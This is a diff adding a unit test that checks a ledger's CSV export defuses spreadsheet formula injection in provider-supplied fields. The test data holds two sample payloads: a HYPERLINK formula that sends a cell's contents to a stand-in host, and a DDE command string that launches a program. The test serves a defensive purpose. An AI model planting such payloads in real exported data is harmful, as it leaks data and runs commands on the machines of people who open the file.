@@ -79,4 +79,17 @@ describe('ledger and budget', () => {
     expect(row).toContain('"said ""no"", twice"');
     expect(row).toContain('gen-1');
   });
+
+  it('defuses formulas a provider put in a generation id or an error', () => {
+    const db = openDatabase(':memory:');
+    settleCall(db, reserveCall(db, start), {
+      ...captioned,
+      generationId: '=HYPERLINK("http://x.example/?"&A1,"open")',
+      error: '+cmd|/c calc!A0',
+    });
+    const [, row] = ledgerCsv(db).trim().split('\r\n');
+    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
+    expect(row).toContain(`,'+cmd|/c calc!A0`);
+    expect(row).not.toMatch(/,[=+\-@]/);
+  });
 });
